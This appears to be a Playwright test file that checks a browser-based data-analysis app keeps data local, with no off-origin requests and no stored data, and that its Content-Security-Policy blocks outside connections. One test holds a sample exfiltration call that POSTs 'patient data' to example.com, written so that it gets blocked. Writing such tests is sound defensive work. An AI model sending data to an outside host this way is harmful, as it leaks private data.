import { test, expect } from './support';

test('a full run makes only same-origin GET requests and stores nothing', async ({ app, page, guard }) => {
  await app.open();
  await app.loadSample('wdbc');
  await app.train();
  await app.uploadFile('cohort.csv', 'age,sex,y\n50,F,yes\n60,M,no\n55,F,no\n70,M,yes\n65,F,yes\n45,M,no\n52,F,no\n68,M,yes\n59,F,no\n61,M,yes\n');
  await app.expectLoaded(10, 3);
  await app.train();
  // the guard fixture fails the test on any off-origin, non-GET or body-carrying request; check it saw traffic at all
  expect(guard.requests.some((r) => r.url.includes('/samples/wdbc.csv'))).toBe(true);
  expect(guard.requests.some((r) => /engine\.worker/.test(r.url))).toBe(true);
  const storage = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: 'caches' in window ? (await caches.keys()).length : 0,
  }));
  expect(storage).toEqual({ local: 0, session: 0, cookies: '', databases: 0, caches: 0 });
});

test('the Content-Security-Policy forbids connections off the origin', async ({ app, page, guard }) => {
  await app.open();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain('unsafe-eval');
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'patient data' });
      return false;
    } catch {
      return true;
    }
  });
  expect(blocked).toBe(true);
  // the browser reported the blocked attempt; that report is the expected outcome here, not a failure
  expect(guard.cspViolations.length).toBeGreaterThan(0);
  guard.cspViolations.length = 0;
  expect(guard.requests.filter((r) => r.url.includes('example.com'))).toEqual([]);
});
